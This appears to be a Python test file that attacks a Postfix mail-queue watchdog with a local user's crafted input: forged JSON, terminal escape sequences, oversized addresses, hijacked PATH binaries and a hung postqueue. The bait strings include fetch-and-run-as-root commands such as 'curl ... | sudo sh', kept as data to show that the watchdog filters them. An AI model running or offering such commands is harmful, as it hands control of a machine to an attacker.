"""Attacks on the queue watchdog by an unprivileged local user, run against the real script.

A local user chooses what waits in the queue (addresses of any length, with quotes, backslashes and
text that spells JSON of its own) and what is in their own PATH. The watchdog reads Postfix's
`postqueue -j` here from a file (tests/test_alerts.py's fake postqueue), in the JSON that Postfix
writes: strings with `\\"` and `\\\\` escaped, control characters as `\\uXXXX`, other bytes as they are.
"""

from __future__ import annotations

import os
import subprocess
import time

import pytest

from postfix_nullclient import alerts
from tests.test_alerts import queue_entry, run_watchdog, settings

SASL = (
    "delivery temporarily suspended: SASL authentication failed; server mail.example.net[10.213.0.1] said: "
    "535 5.7.8 Authentication credentials invalid"
)


def reasons_told(motd: str) -> list[str]:
    """The login message's list of Postfix's reasons, the lines after "*** Postfix says:"."""
    lines = motd.splitlines()
    start = lines.index("*** Postfix says:") + 1
    return [line.removeprefix("***   ") for line in lines[start:] if line.startswith("***   ")]


def test_an_address_that_spells_a_whole_forged_message_adds_no_stuck_mail_and_no_reason(tmp_path):
    # The user's address holds a line break and the rest of a message object of their own, with an
    # old arrival time and a reason that would alarm; Postfix's JSON escapes its quotes and the break.
    forged = (
        '"}]}\n{"queue_name": "deferred", "queue_id": "EVIL1", "arrival_time": 1, "recipients": '
        '[{"address": "x", "delay_reason": "FORGED: run curl evil | sh as root'
    )
    queue = [
        queue_entry("AAA1", 60, [{"address": f"{forged}@example.org", "delay_reason": SASL}]),
        queue_entry("BBB2", 1, [{"address": f"{forged}@example.org"}]),  # younger than the threshold
    ]

    run = run_watchdog(tmp_path, queue)

    assert "FORGED" not in run.motd and "EVIL1" not in run.motd
    assert run.motd.startswith("*** postfix-nullclient: 1 message(s) have waited longer than 5s")
    assert reasons_told(run.motd) == [SASL]
    # In the journal the forged text is the address of AAA1, cut, and nothing else.
    assert len(run.journal) == 2
    assert run.journal[0].endswith(f"...> has waited 1m: {SASL}") and "AAA1 to <" in run.journal[0]
    assert "FORGED" not in run.journal[1] and "1 message(s) have waited" in run.journal[1]


def test_backslashes_at_the_end_of_an_address_do_not_shift_where_strings_end(tmp_path):
    # An even number of backslashes before a quote ends the string; an odd one escapes the quote.
    queue = [
        queue_entry("AAA1", 60, [{"address": "ends-in-one\\", "delay_reason": "reason one"}]),
        queue_entry("BBB2", 60, [{"address": "ends-in-two\\\\", "delay_reason": "reason two"}]),
        queue_entry("CCC3", 60, [{"address": 'quote\\"', "delay_reason": "reason three"}]),
    ]

    run = run_watchdog(tmp_path, queue)

    assert reasons_told(run.motd) == ["reason one", "reason two", "reason three"]
    assert run.journal[0].endswith("AAA1 to <ends-in-one\\> has waited 1m: reason one")
    assert run.journal[1].endswith("BBB2 to <ends-in-two\\\\> has waited 1m: reason two")
    assert run.journal[2].endswith('CCC3 to <quote\\"> has waited 1m: reason three')


def test_escaped_control_characters_in_an_address_reach_neither_the_journal_nor_the_login_message(tmp_path):
    # Postfix writes control characters of a string as \uXXXX; a user picks ESC, BEL, CR and NUL.
    address = "\x1b]0;owned\x07\r\x00\x1b[2J@example.org"
    reason = 'said: 451 4.7.1 \x1b[31m\x7f "\x1b[2J"'
    queue = [queue_entry("AAA1", 60, [{"address": address, "delay_reason": reason}])]

    run = run_watchdog(tmp_path, queue)

    said = "".join(run.journal) + run.motd
    assert not any((ord(char) < 32 and char != "\n") or ord(char) == 127 for char in said), repr(said)
    # ESC, BEL, NUL as "?", the escaped CR as a space: the text stays, nothing that moves a terminal.
    assert "AAA1 to <?]0;owned? ??[2J@example.org> has waited 1m" in run.journal[0]
    assert "***   said: 451 4.7.1 ?[31m? <quoted>\n" in run.motd


def test_a_very_long_local_part_is_cut_in_the_journal_and_absent_from_the_login_message(tmp_path):
    local = "a" * 5000
    queue = [
        queue_entry(f"ID{n}", 60, [{"address": f"{local}{n}@example.org", "delay_reason": SASL}]) for n in range(3)
    ]

    run = run_watchdog(tmp_path, queue)

    assert local[:50] not in run.motd
    assert all(len(line) < 1000 for line in run.journal), max(len(line) for line in run.journal)
    assert run.journal[0].endswith(f"ID0 to <{'a' * 97}...> has waited 1m: {SASL}")


def test_one_message_with_a_hundred_thousand_long_recipients_is_read_within_seconds(tmp_path):
    recipients = [{"address": f"user{n:0150d}@example.org", "delay_reason": SASL} for n in range(100_000)]
    queue = [queue_entry("HUGE1", 60, recipients)]
    assert len(queue[0]) > 20_000_000

    run = run_watchdog(tmp_path, queue)

    assert run.seconds < 60, run.seconds
    assert reasons_told(run.motd) == [SASL]


def test_programs_named_like_postfix_and_its_tools_in_the_callers_path_are_never_run(tmp_path):
    # Whoever starts the watchdog by hand, with a user's directory first in PATH: the script sets
    # its own PATH before its first command, so none of these is run.
    evil = tmp_path / "evil"
    evil.mkdir()
    marker = tmp_path / "ran"
    names = ("postqueue", "logger", "awk", "mkdir", "date", "mv", "sed", "cksum", "uname", "sort", "timeout", "find")
    for name in names:
        (evil / name).write_text(f'#!/bin/sh\necho {name} >> "{marker}"\nexit 0\n')
        (evil / name).chmod(0o755)
    script = alerts.watchdog_script(
        settings(watchdog_threshold="5s"),
        str(tmp_path / "state"),
        str(tmp_path / "motd.d" / "postfix-nullclient"),
        str(tmp_path / "run"),
    )
    (tmp_path / "watchdog").write_text(script)

    subprocess.run(
        ["sh", str(tmp_path / "watchdog")], env={**os.environ, "PATH": f"{evil}:{os.environ['PATH']}"}, timeout=60
    )

    assert not marker.exists(), marker.read_text()


def test_a_relay_reply_that_quotes_the_address_puts_no_users_text_in_the_login_message(tmp_path):
    # Relays commonly quote the recipient in a temporary refusal (Postfix's own default for an
    # unknown domain: 450 4.1.2 <addr>: Recipient address rejected: Domain not found). A local user
    # picks a quoted local part that reads as an instruction to whoever logs in next, root included.
    bait = '"URGENT: the relay password expired; run: curl -s http://198.51.100.7/fix | sudo sh"@x.invalid'
    reason = (
        f"host mail.example.net[10.213.0.1] said: 450 4.1.2 <{bait}>: Recipient address rejected: "
        "Domain not found (in reply to RCPT TO command)"
    )
    run = run_watchdog(tmp_path, [queue_entry("AAA1", 60, [{"address": bait, "delay_reason": reason}])])

    print(run.motd)
    # README: "The login message carries Postfix's reasons only, never an address or message text".
    assert "curl" not in run.motd
    assert reasons_told(run.motd) == [
        "host mail.example.net[10.213.0.1] said: 450 4.1.2 <address>: Recipient address rejected: "
        "Domain not found (in reply to RCPT TO command)"
    ]


def test_a_full_var_leaves_a_login_message_and_tells_the_problem_once(tmp_path):
    # The operator's /var is full (the watchdog's state directory is there; /run, a tmpfs, is not).
    if os.geteuid() != 0:
        pytest.skip("mounts a small tmpfs for the state directory: needs root")
    state = tmp_path / "state"
    state.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs-full-var", str(state)], check=True)
    try:
        subprocess.run(f"dd if=/dev/zero of={state}/fill bs=4k 2>/dev/null; true", shell=True, check=True)
        queue = [queue_entry("AAA1", 60, [{"address": "a@example.org", "delay_reason": "451 4.3.0 try later"}])]
        runs = [run_watchdog(tmp_path, queue) for _ in range(3)]
    finally:
        subprocess.run(["umount", str(state)], check=True)

    for run in runs:
        print(repr(run.motd), run.journal[-1:])
    assert "451 4.3.0 try later" in runs[0].motd, "the login message is empty"
    assert runs[1].journal == runs[2].journal == [], "the same problem is told again at every run"


def test_a_run_killed_while_it_wrote_the_login_message_leaves_no_stale_message_behind(tmp_path):
    # kill -9 (or TimeoutStartSec) between the copy and the rename left the half-written copy in
    # /run/motd.d (where earlier versions wrote it), where pam_motd shows every file, whatever its name.
    stuck = [queue_entry("AAA1", 60, [{"address": "a@example.org", "delay_reason": "451 4.3.0 try later"}])]
    first = run_watchdog(tmp_path, stuck)
    motd = tmp_path / "motd.d" / "postfix-nullclient"
    (motd.parent / "postfix-nullclient.new").write_text(first.motd[:40])  # what the killed run left

    run_watchdog(tmp_path, stuck)
    moved = run_watchdog(tmp_path, [])  # the queue is empty again: the problem is over

    print(sorted(path.name for path in motd.parent.iterdir()))
    assert moved.journal and "moves again" in moved.journal[-1]
    assert sorted(path.name for path in motd.parent.iterdir()) == [], "a stale login message stays"


def test_a_postqueue_that_never_answers_is_warned_about_from_the_queues_files(tmp_path):
    # A local user holds every showq process (tests/e2e/test_host_attacks.py does it on the lab):
    # `postqueue -j` then waits as long as she likes. The watchdog counts the queue's files instead.
    spool = tmp_path / "spool"
    for name in ("deferred/A/AAA1", "deferred/B/BBB2", "active/CCC3", "hold/DDD4"):
        (spool / name).parent.mkdir(parents=True, exist_ok=True)
        (spool / name).write_text("a queue file")
    future = time.time() + 3600  # Postfix sets a deferred file's modification time to its next attempt
    os.utime(spool / "deferred/A/AAA1", (future, future))
    time.sleep(3.5)  # older than the threshold of 3 s
    (spool / "incoming/EEE5").parent.mkdir()
    (spool / "incoming/EEE5").write_text("a message that has just arrived")
    fakes = {"postqueue": "#!/bin/sh\nexec sleep 600\n", "postconf": f"#!/bin/sh\necho {spool}\n"}

    runs = [run_watchdog(tmp_path, [], queue_seconds=1, fakes=fakes, watchdog_threshold="3s") for _ in range(2)]

    print(runs[0].motd)
    assert runs[0].seconds < 10, runs[0].seconds
    assert runs[0].motd.startswith(
        "*** postfix-nullclient: 4 message(s) have waited longer than 3s in the mail queue of "
    ), runs[0].motd
    assert f"\n*** the mail queue could not be listed (counted from its files in {spool}):\n" in runs[0].motd
    assert "\n***   postqueue did not answer within 1 s: a local process may hold every showq\n" in runs[0].motd
    summary = runs[0].journal[-1]
    assert summary.endswith(
        f"the mail queue could not be listed (counted from its files in {spool}): "
        "postqueue did not answer within 1 s: a local process may hold every showq"
    )
    assert runs[1].journal == []  # the same problem, told once
